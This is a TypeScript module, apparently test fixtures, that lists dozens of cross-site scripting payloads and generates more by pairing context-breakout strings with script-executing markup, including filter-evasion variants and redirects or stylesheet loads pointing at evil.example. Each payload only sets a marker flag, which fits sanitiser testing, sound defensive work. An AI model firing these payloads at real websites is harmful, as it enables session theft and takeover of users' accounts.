/** Texts that would run as a script, or break out of where they stand, if any part of a page took them for markup. */
const RUN = 'window.broken=1';
/** Each would set `window.broken` where it ran, or break out of where it stands. */
export const PAYLOADS: readonly string[] = [
  `<script>${RUN}</script>`, `</script><script>${RUN}</script>`, `<ScRiPt>${RUN}</sCrIpT>`, `<script/x>${RUN}</script>`, `<<script>${RUN}//<</script>`,
  `<img src=x onerror=${RUN}>`, `"><img src=x onerror=${RUN}>`, `'><img src=x onerror=${RUN}>`, `<img src=x onerror=\`${RUN}\`>`, `<img/src/onerror=${RUN}>`,
  `<svg onload=${RUN}>`, `<svg><script>${RUN}</script></svg>`, `<svg><a xlink:href="javascript:${RUN}"><rect width=99 height=99 /></a></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`, `</title><script>${RUN}</script>`, `</textarea><script>${RUN}</script>`, `</style><script>${RUN}</script>`,
  `</pre><script>${RUN}</script>`, `</mark></a><b onmouseover=${RUN}>`, `--><script>${RUN}</script><!--`, `]]><script>${RUN}</script>`,
  `<iframe src="javascript:parent.${RUN}">`, `<iframe srcdoc="<script>parent.${RUN}</script>">`, `<object data="javascript:${RUN}">`, `<embed src="javascript:${RUN}">`,
  `<a href="javascript:${RUN}">x</a>`, `<form action="javascript:${RUN}"><button autofocus>`, `<input autofocus onfocus=${RUN}>`, `" autofocus onfocus=${RUN} x="`,
  `' autofocus onfocus=${RUN} x='`, `x" onmouseover="${RUN}`, `x' onmouseover='${RUN}`, `<details open ontoggle=${RUN}>`, `<video><source onerror=${RUN}>`,
  `<audio src onloadstart=${RUN}>`, `<marquee onstart=${RUN}>`, `<body onload=${RUN}>`, `<base href="//evil.example/">`, `<meta http-equiv=refresh content="0;url=//evil.example">`,
  `<link rel=stylesheet href=//evil.example/x.css>`, `<style>*{display:none!important}</style>`, `<div style="position:fixed;inset:0;background:red">`,
  `<math><mtext><table><mglyph><style><img src onerror=${RUN}>`, `<noscript><p title="</noscript><img src onerror=${RUN}>">`, `<template><script>${RUN}</script></template>`,
  `\\u003cscript\\u003e${RUN}`, `&lt;script&gt;${RUN}&lt;/script&gt;`, `&#60;script&#62;${RUN}`, `\u2028<script>${RUN}</script>`, `\${${RUN}}{{${RUN}}}<%= ${RUN} %>`,
];

/** What may stand open where a text is put in: an attribute, a tag, an element of text, a comment, a script's string. */
const WAYS_OUT: readonly string[] = [
  '', '">', '\'>', '">\'>', '`>', '</script>', '</title>', '</textarea>', '</style>', '</pre></code>', '</mark></a></li>', '-->', ']]>', '</noscript>', '</template>', '\u2028', '\u200b', '＂＞', '";', '\\"></', '</p></article></main>', '{{', '%22%3E', '&quot;&gt;',
];
/** What would then run, in the writings filters are known to have missed. */
const WAYS_IN: readonly string[] = [
  `<script>${RUN}</script>`, `<SCRIPT >${RUN}</SCRIPT >`, `<scr<script>ipt>${RUN}</scr</script>ipt>`, `<script src="data:text/javascript,${RUN}"></script>`, `<script type=module>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`, `<image src=x onerror=${RUN}>`, `<img src=x:x onerror = ${RUN}>`, `<img src="x\`><script>${RUN}</script>"\`>`, `<img srcset=x onerror=${RUN}//`,
  `<svg/onload=${RUN}>`, `<svg><set onbegin=${RUN} attributeName=x to=y>`, `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>parent.${RUN}</script></svg>#x">`, `<svg><foreignObject><body onload=${RUN}>`,
  `<iframe srcdoc="&lt;script&gt;parent.${RUN}&lt;/script&gt;">`, `<iframe src="data:text/html,<script>parent.${RUN}</script>">`, `<object data="data:text/html,<script>parent.${RUN}</script>">`,
  `<select autofocus onfocus=${RUN}>`, `<textarea autofocus onfocus=${RUN}>`, `<button autofocus onfocus=${RUN}>`, `<div tabindex=0 autofocus onfocus=${RUN}>`, `<div contenteditable autofocus onfocus=${RUN}>`,
  `<video src=x onerror=${RUN}>`, `<audio controls onloadstart=${RUN}><source src=x>`, `<details open ontoggle="${RUN}">`, `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=${RUN}>`,
  `<link rel=stylesheet href=x onerror=${RUN}>`, `<input type=image src=x onerror=${RUN}>`, `<body onpageshow=${RUN}>`, `＜script＞${RUN}＜/script＞`, `\ufeff<script>${RUN}</script>`, `<math><annotation-xml encoding="text/html"><script>${RUN}</script></annotation-xml></math>`, `<dialog open onclose=${RUN}><form method=dialog><button autofocus>`,
];

/** `count` more, each a way out with a way in; the same every time. */
export function madePayloads(count: number): readonly string[] {
  const all = WAYS_OUT.flatMap((out) => WAYS_IN.map((way) => out + way)).filter((text) => !PAYLOADS.includes(text));
  return Array.from({ length: count }, (_, at) => all[Math.floor((at * all.length) / count)]!);
}
